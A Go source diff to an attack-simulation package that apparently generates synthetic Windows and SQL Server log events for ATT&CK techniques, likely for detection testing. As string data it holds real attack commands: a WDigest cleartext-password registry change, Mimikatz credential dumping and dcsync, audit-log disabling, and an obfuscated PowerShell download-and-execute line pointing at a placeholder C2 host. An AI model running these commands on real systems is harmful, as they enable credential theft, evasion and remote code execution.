@@ -1,8 +1,10 @@
 package technique
 
 import (
+	"strings"
 	"time"
 
+	"hemostat/sim/role"
 	"hemostat/sim/world"
 )
 
@@ -16,6 +18,7 @@ var further = map[string][]variant{
 		by("task manager", under(world.Explorer, taskManager, `"C:\Windows\system32\taskmgr.exe" /4`), open(world.Lsass, "0x1fffff", dumpTrace), file(`C:\Users\{user}\AppData\Local\Temp\lsass.DMP`)),
 		by("Invoke-Mimikatz", block(`Invoke-Mimikatz -DumpCreds`), open(world.Lsass, "0x1010", mimikatzTrace)),
 		by("security package", registry(`HKLM\System\CurrentControlSet\Control\Lsa\Security Packages`, "kerberos msv1_0 schannel wdigest tspkg pku2u mimilib"), log("Security 4622", "SecurityPackageName", `C:\Windows\system32\mimilib.dll : KiwiSSP`), file(`C:\Windows\System32\kiwissp.log`)),
+		by("passwords in clear", cmd(world.Reg, `reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f`)),
 		by("rdrleakdiag", cmd(world.InSystem32("rdrleakdiag.exe", "RdrLeakDiag.exe", "Microsoft Windows Resource Leak Diagnostic"), `rdrleakdiag.exe /p 636 /o C:\Users\Public /fullmemdmp /wait 1`), open(world.Lsass, "0x1fffff", dumpTrace), file(`C:\Users\Public\minidump_636.dmp`)),
 	},
 	"T1003.002": {
@@ -27,7 +30,7 @@ var further = map[string][]variant{
 	},
 	"T1003.006": {
 		by("lsadump::dcsync", cmd(mimikatz, `mimikatz.exe "lsadump::dcsync /domain:{domain} /user:krbtgt" exit`), replicate),
-		by("DCShadow replication", cmd(mimikatz, `mimikatz.exe "lsadump::dcshadow /push" exit`), replicate),
+		by("DCShadow replication", cmd(mimikatz, `mimikatz.exe "lsadump::dcshadow /push" exit`), replicate, samPolicy),
 	},
 	"T1016": {
 		by("firewall and routes", cmd(world.Netsh, `netsh advfirewall show allprofiles`), cmd(world.InSystem32("route.exe", "route.exe", "TCP/IP Route Command"), `route print`)),
@@ -35,6 +38,10 @@ var further = map[string][]variant{
 	},
 	"T1018": {
 		by("net view", cmd(world.Net, `net view /domain`), cmd(world.Ping, `ping -n 1 -w 100 {dc}`)),
+	},
+	"T1027": {
+		by("CrackMapExec", powershellPayload(`Invoke-Mimikatz -Command "privilege::debug sekurlsa::logonpasswords exit"`)),
+		by("Invoke-Obfuscation", powershellPayload(`&("{1}{0}"-f'X','IE') (New-Object Net.WebClient).DownloadString('http://{c2}/s')`)),
 	},
 	"T1047": {
 		by("wmic recon", cmd(world.Wmic, `wmic /node:{dc} process list brief`)),
@@ -65,7 +72,7 @@ var further = map[string][]variant{
 		by("net user", cmd(world.Net, `net user /domain`), cmd(world.Net, `net user administrator /domain`), samPolicy),
 	},
 	"T1098": {
-		by("service principal name", cmd(setspn, `setspn.exe -A MSSQLSvc/{dc}:1433 svc_web`), directory("user", "servicePrincipalName", "MSSQLSvc/{dc}:1433"), userChanged()),
+		by("service principal name", cmd(setspn, `setspn.exe -A MSSQLSvc/{dc}:1433 svc_web`), cmd(setspn, `setspn.exe -Q MSSQLSvc/{dc}:1433`), directory("user", "servicePrincipalName", "MSSQLSvc/{dc}:1433"), userChanged()),
 		by("no preauthentication", powershell(`Set-ADAccountControl -Identity svc_web -DoesNotRequirePreAuth $true`),
 			userChanged("OldUacValue", "0x210", "NewUacValue", "0x10210", "UserAccountControl", "\r\n\t\t%%2096"), directory("user", "userAccountControl", "4260352")),
 		by("weak encryption", userChanged("OldUacValue", "0x210", "NewUacValue", "0x8210", "UserAccountControl", "\r\n\t\t%%2095")),
@@ -77,7 +84,11 @@ var further = map[string][]variant{
 		by("renamed", atController("Security 4781", "OldTargetUserName", "svc_web", "NewTargetUserName", "admin_backup"), userChanged("SamAccountName", "admin_backup")),
 		by("computer's names", atController("Security 4742", "ServicePrincipalNames", "\r\n\t\tGC/{dc}\r\n\t\tE3514235-4B06-11D1-AB04-00C04FC2DCD2/x"), directory("computer", "servicePrincipalName", "GC/{dc}")),
 		by("logon right", log("Security 4717", "AccessGranted", "SeRemoteInteractiveLogonRight"), log("Security 4704", "PrivilegeList", "SeDebugPrivilege")),
-		by("database role", log("Application 33205", "Data", "audit_schema_version:1, action_id:APRL, succeeded:true, server_principal_name:sa, database_principal_name:svc_web, object_name:sysadmin, statement:ALTER SERVER ROLE [sysadmin] ADD MEMBER [svc_web]")),
+		by("database role", atDatabase("Application 33205", "Data", "audit_schema_version:1, action_id:APRL, succeeded:true, server_principal_name:sa, database_principal_name:svc_web, object_name:sysadmin, statement:ALTER SERVER ROLE [sysadmin] ADD MEMBER [svc_web]")),
+	},
+	"T1110.003": {
+		by("database logins", sqlLogins),
+		by("Kerberos names", kerberosNames),
 	},
 	"T1112": {
 		by("DAMP", powershell(`Add-RemoteRegBackdoor -ComputerName {dc} -Trustee {netbios}\{user}`), registry(`HKLM\System\CurrentControlSet\Control\SecurePipeServers\winreg\RemoteRegAccess`, "Binary Data")),
@@ -93,7 +104,7 @@ var further = map[string][]variant{
 	"T1136.001": {
 		by("New-LocalUser", powershell(`New-LocalUser -Name "support2" -NoPassword`), powershell(`Add-LocalGroupMember -Group "Administrators" -Member "support2"`)),
 		by("net and group", cmd(world.Net, `net user support Passw0rd! /add`), cmd(world.Net, `net localgroup administrators support /add`)),
-		by("server login", log("Application 33205", "Data", "audit_schema_version:1, action_id:CR, succeeded:true, server_principal_name:sa, object_name:support, statement:CREATE LOGIN [support] WITH PASSWORD=N'******'")),
+		by("server login", atDatabase("Application 33205", "Data", "audit_schema_version:1, action_id:CR, succeeded:true, server_principal_name:sa, object_name:support, statement:CREATE LOGIN [support] WITH PASSWORD=N'******'")),
 	},
 	"T1136.002": {
 		by("computer account", atController("Security 4741", "TargetUserName", "DESKTOP-7QZ$", "SamAccountName", "DESKTOP-7QZ$", "DnsHostName", "DESKTOP-7QZ.{domain}"), atController("Security 5137", "ObjectClass", "computer", "ObjectDN", "CN=DESKTOP-7QZ,CN=Computers,{dn}")),
@@ -155,7 +166,7 @@ var further = map[string][]variant{
 	},
 	"T1685.001": {
 		by("all categories", cmd(world.Auditpol, `auditpol /clear /y`), cmd(world.Auditpol, `auditpol /remove /allusers`)),
-		by("database audit", log("Application 33205", "Data", "audit_schema_version:1, action_id:AL, succeeded:true, object_name:Audit, statement:ALTER SERVER AUDIT [Audit] WITH (STATE = OFF)"), log("Application 33205", "Data", "audit_schema_version:1, action_id:DR, succeeded:true, statement:DROP SERVER AUDIT [Audit]")),
+		by("database audit", atDatabase("Application 33205", "Data", "audit_schema_version:1, action_id:AL, succeeded:true, object_name:Audit, statement:ALTER SERVER AUDIT [Audit] WITH (STATE = OFF)"), atDatabase("Application 33205", "Data", "audit_schema_version:1, action_id:DR, succeeded:true, statement:DROP SERVER AUDIT [Audit]")),
 		by("log switched off", cmd(world.Wevtutil, `wevtutil sl Security /e:false`), cmd(world.Sc, `sc.exe config eventlog start= disabled`)),
 	},
 	"T1685.005": {
@@ -265,6 +276,62 @@ func remoteFile(share, name string) move {
 		return world.Refusal{}
 	}}
 }
+
+// atDatabase writes an event of a database server's log.
+func atDatabase(id string, pairs ...string) move {
+	return move{"windows/" + strings.ToLower(id), func(a *Attempt, f *Foothold) world.Refusal {
+		if servers := a.World.WithRole(role.DatabaseServer); len(servers) > 0 {
+			a.World.LogBy(a.Now, a.Actor, servers[0], nil, id, a.texts(f, pairs)...)
+		}
+		return world.Refusal{}
+	}}
+}
+
+// powershellPayload is a script handed over encoded, as tools for many hosts do.
+func powershellPayload(script string) move {
+	return move{"windows/sysmon 1, windows/powershell 4103 4104", func(a *Attempt, f *Foothold) world.Refusal {
+		text := a.text(f, script)
+		p := a.start(f, world.PowerShell, "powershell.exe -exec bypass -noni -nop -w 1 -enc "+encoded(text))
+		a.World.RunScript(a.Now+time.Second, a.Actor, p, text)
+		return world.Refusal{}
+	}}
+}
+
+// sqlLogins are failed logons to a database server (MSSQLSERVER 18456), and one that works.
+var sqlLogins = move{"windows/application 18456", func(a *Attempt, f *Foothold) world.Refusal {
+	servers := a.World.WithRole(role.DatabaseServer)
+	if len(servers) == 0 {
+		return world.Refusal{}
+	}
+	h := servers[0]
+	if r := a.World.Reach(world.At(f.Host), world.At(h), 1433); !r.OK() {
+		return r
+	}
+	for range 12 {
+		a.Now += 700 * time.Millisecond
+		a.World.LogBy(a.Now, a.Actor, h, nil, "Application 18456", "Data", "sa, Reason: Password did not match that for the login provided., [CLIENT: "+f.Host.IP+"]")
+	}
+	a.World.LogBy(a.Now, a.Actor, h, nil, "Application 18454", "Data", "sa, [CLIENT: "+f.Host.IP+"]")
+	return world.Refusal{}
+}}
+
+// kerberosNames asks the controller for tickets of names that may exist (4768 with status
+// 0x6) and of those that do with one password (4771).
+var kerberosNames = move{"windows/security 4768 4771", func(a *Attempt, f *Foothold) world.Refusal {
+	dc := a.World.DomainController(f.Host)
+	if dc == nil {
+		return world.Refusal{}
+	}
+	if r := a.World.Reach(world.At(f.Host), world.At(dc), 88); !r.OK() {
+		return r
+	}
+	for _, name := range []string{"admin", "administrator", "test", "backup", "sql", "guest", "svc", "oracle", "scanner", "helpdesk", "root", "print"} {
+		a.Now += 200 * time.Millisecond
+		a.World.LogBy(a.Now, a.Actor, dc, nil, "Security 4768", "TargetUserName", name, "TargetSid", "S-1-0-0", "Status", "0x6", "TicketEncryptionType", "0xffffffff", "IpAddress", "::ffff:"+f.Host.IP)
+		a.World.LogBy(a.Now, a.Actor, dc, nil, "Security 4771", "TargetUserName", name, "IpAddress", "::ffff:"+f.Host.IP)
+	}
+	return world.Refusal{}
+}}
 
 // remoteRegistry reaches the registry of the controller by its pipe.
 var remoteRegistry = remoteFile(`\\*\IPC$`, "winreg")
